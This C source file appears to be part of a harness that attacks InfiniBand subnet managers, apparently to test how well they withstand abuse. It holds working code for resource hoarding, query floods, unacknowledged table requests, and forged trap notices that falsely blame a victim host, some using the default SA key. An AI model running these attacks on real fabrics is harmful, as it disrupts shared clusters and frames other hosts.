/* Hoarding and floods: one port asks for more than its share of records, work, memory or time. */
#include "attack/attacker.h"

#include <infiniband/umad.h>

enum { TOP_LID = 1024 };
/* What one port may have by default. */
enum { SERVICES_ALLOWED = 32, SUBSCRIPTIONS_ALLOWED = 32, GROUPS_ALLOWED = 128 };

/* ---- hoarding ---- */

static void make_service(struct attacker *attacker, unsigned number)
{
    uint8_t *record = make_query(attacker, METHOD_SET, ATTRIBUTE_SERVICE_RECORD, 3);
    wire_set(record, SERVICE_RECORD_ID, 0x100000 + number);
    set_gid(wire_bytes(record, SERVICE_RECORD_GID), PREFIX, attacker->own_guid);
}

/* With the sa_key that every manager has by default. */
static void make_privileged_service(struct attacker *attacker, unsigned number)
{
    make_service(attacker, number);
    wire_set(umad_get_mad(attacker->out), SA_SM_KEY, 1);
}

static void make_subscription(struct attacker *attacker, unsigned number)
{
    uint8_t *inform = make_query(attacker, METHOD_SET, ATTRIBUTE_INFORM_INFO, 0);
    wire_set(inform, INFORM_INFO_LID_RANGE_BEGIN, 0xFFFF);
    wire_set(inform, INFORM_INFO_IS_GENERIC, 1);
    wire_set(inform, INFORM_INFO_SUBSCRIBE, 1);
    wire_set(inform, INFORM_INFO_TYPE, number < 2 ? 0xFFFF : number / 0x1000);
    wire_set(inform, INFORM_INFO_TRAP_NUMBER, number < 2 ? 66 + number : 1000 + number % 0x1000);
    wire_set(inform, INFORM_INFO_PRODUCER_TYPE, 0xFFFFFF);
}

static void make_join(struct attacker *attacker, unsigned method, unsigned number)
{
    enum { MGID, PORT, Q_KEY, CLASS = 6, P_KEY, SL = 12, FLOW, STATE = 16 };
    uint8_t *record = make_query(attacker, method, ATTRIBUTE_MC_MEMBER_RECORD,
                                 1 << MGID | 1 << PORT | 1 << Q_KEY | 1 << CLASS | 1 << P_KEY |
                                     1 << SL | 1 << FLOW | 1 << STATE);
    set_gid(wire_bytes(record, MC_MEMBER_RECORD_MGID), UINT64_C(0xFF12A01CBAD00000), number + 1);
    set_gid(wire_bytes(record, MC_MEMBER_RECORD_PORT_GID), PREFIX, attacker->own_guid);
    wire_set(record, MC_MEMBER_RECORD_P_KEY, 0xFFFF);
    wire_set(record, MC_MEMBER_RECORD_JOIN_STATE, 1);
}

static void make_new_group(struct attacker *attacker, unsigned number)
{
    make_join(attacker, METHOD_SET, number);
}

static void beyond(struct attacker *attacker, uint64_t granted, unsigned allowed)
{
    attacker->granted = granted > allowed ? granted - allowed : 0;
}

void hoard_services(struct attacker *attacker)
{
    beyond(attacker, hoard(attacker, make_service), SERVICES_ALLOWED);
}

void hoard_services_with_key(struct attacker *attacker)
{
    beyond(attacker, hoard(attacker, make_privileged_service), SERVICES_ALLOWED);
}

void hoard_subscriptions(struct attacker *attacker)
{
    beyond(attacker, hoard(attacker, make_subscription), SUBSCRIPTIONS_ALLOWED);
}

void hoard_groups(struct attacker *attacker)
{
    beyond(attacker, hoard(attacker, make_new_group), GROUPS_ALLOWED);
}

/* Groups whose only member is another host: the victim, then its neighbours. */
static void make_proxy_group(struct attacker *attacker, unsigned number)
{
    enum { GUID_STEP = 2 }; /* between the hosts of a generated network */
    make_join(attacker, METHOD_SET, number);
    set_gid(wire_bytes((uint8_t *)umad_get_mad(attacker->out) + SA_DATA_OFFSET,
                       MC_MEMBER_RECORD_PORT_GID),
            PREFIX, attacker->victim_guid + (uint64_t)(number / GROUPS_ALLOWED) * GUID_STEP);
}

void hoard_proxy_groups(struct attacker *attacker)
{
    beyond(attacker, hoard(attacker, make_proxy_group), GROUPS_ALLOWED);
}

/* ---- floods of queries ---- */

/* Services as many as possible, then look-ups of one that does not exist. */
void miss_services(struct attacker *attacker)
{
    unsigned outstanding = 0;
    uint64_t end_us = attacker->end_us;
    attacker->end_us = clock_us() + (end_us - clock_us()) / 2;
    hoard(attacker, make_service);
    attacker->end_us = end_us;
    while (goes_on(attacker)) {
        wire_set(make_query(attacker, METHOD_GET, ATTRIBUTE_SERVICE_RECORD, 1), SERVICE_RECORD_ID,
                 7);
        send_query(attacker, 1000);
        outstanding++;
        take_answers(attacker, &outstanding, WINDOW);
    }
}

/* Look-ups by a component that is not indexed. */
void scan_services(struct attacker *attacker)
{
    enum { DATA8_2 = 9 };
    unsigned outstanding = 0;
    while (goes_on(attacker)) {
        wire_set_at(
            make_query(attacker, METHOD_GET, ATTRIBUTE_SERVICE_RECORD, UINT64_C(1) << DATA8_2),
            SERVICE_RECORD_DATA8, 2, 99);
        send_query(attacker, 1000);
        outstanding++;
        take_answers(attacker, &outstanding, WINDOW);
    }
}

void query_tables(struct attacker *attacker)
{
    while (goes_on(attacker)) {
        make_query(attacker, METHOD_GET_TABLE,
                   attacker->attempts % 2 ? ATTRIBUTE_PORT_INFO_RECORD : ATTRIBUTE_PATH_RECORD, 0);
        send_query(attacker, 0);
    }
}

/* The paths from the attacker's port to all others: the most expensive table. */
void query_path_tables(struct attacker *attacker)
{
    enum { SLID = 5 };
    while (goes_on(attacker)) {
        wire_set(make_query(attacker, METHOD_GET_TABLE, ATTRIBUTE_PATH_RECORD, UINT64_C(1) << SLID),
                 PATH_RECORD_SLID, attacker->own_lid);
        send_query(attacker, 0);
    }
}

/* Asks, and reads no answer. */
void query_without_reading(struct attacker *attacker)
{
    while (goes_on(attacker)) {
        make_query(attacker, METHOD_GET, ATTRIBUTE_CLASS_PORT_INFO, 0);
        send_query(attacker, 100);
    }
}

/* Asks for tables as a client without RMPP: the answers are never acknowledged. */
void query_tables_without_acknowledging(struct attacker *attacker)
{
    leave_rmpp(attacker);
    while (goes_on(attacker)) {
        make_query(attacker, METHOD_GET_TABLE, ATTRIBUTE_PORT_INFO_RECORD, 0);
        send_query(attacker, 0);
    }
}

/* Subscribes to all reports about groups, then creates and deletes groups: never answers. */
void provoke_reports(struct attacker *attacker)
{
    unsigned outstanding = 0;
    for (unsigned i = 0; i < 2; i++) {
        make_subscription(attacker, i);
        send_query(attacker, 1000);
        outstanding++;
    }
    for (unsigned i = 0; goes_on(attacker); i++) {
        make_join(attacker, i % 2 ? METHOD_DELETE : METHOD_SET, i / 2 % 64);
        send_query(attacker, 1000);
        outstanding++;
        take_answers(attacker, &outstanding, 16);
    }
}

/* ---- floods of SMPs ---- */

/* Traps that name the port with the LID `about`, or every LID in turn if it is 0. */
static void flood_traps(struct attacker *attacker, unsigned trap, unsigned type, unsigned producer,
                        unsigned about)
{
    while (goes_on(attacker)) {
        uint8_t *notice = make_smp(attacker, METHOD_TRAP, ATTRIBUTE_NOTICE, 0);
        wire_set(notice, NOTICE_IS_GENERIC, 1);
        wire_set(notice, NOTICE_TYPE, type);
        wire_set(notice, NOTICE_PRODUCER_TYPE, producer);
        wire_set(notice, NOTICE_TRAP_NUMBER, trap);
        wire_set(notice, NOTICE_ISSUER_LID, about ? about : 1 + rng_below(&attacker->rng, TOP_LID));
        uint8_t *details = notice + NOTICE_AT_DETAILS;
        if (trap == ATTRIBUTE_TRAP_BAD_P_KEY) {
            wire_set(details, TRAP_BAD_P_KEY_LID1, attacker->victim_lid);
            wire_set(details, TRAP_BAD_P_KEY_LID2, attacker->own_lid);
            wire_set(details, TRAP_BAD_P_KEY_KEY, rng_below(&attacker->rng, 0x8000));
        }
        send_smp(attacker, attacker->master_lid, 0);
    }
}

/* "A port of this switch has changed." */
void forge_traps(struct attacker *attacker)
{
    flood_traps(attacker, 128, 1, 2, 0);
}

void send_own_traps(struct attacker *attacker)
{
    flood_traps(attacker, 144, 4, 1, attacker->own_lid);
}

/* "The victim sends me packets with wrong P_Keys." */
void send_p_key_traps(struct attacker *attacker)
{
    flood_traps(attacker, ATTRIBUTE_TRAP_BAD_P_KEY, 2, 1, attacker->own_lid);
}

void flood_sm_info(struct attacker *attacker)
{
    while (goes_on(attacker)) {
        make_smp(attacker, METHOD_GET, ATTRIBUTE_SM_INFO, 0);
        send_smp(attacker, attacker->master_lid, 0);
    }
}
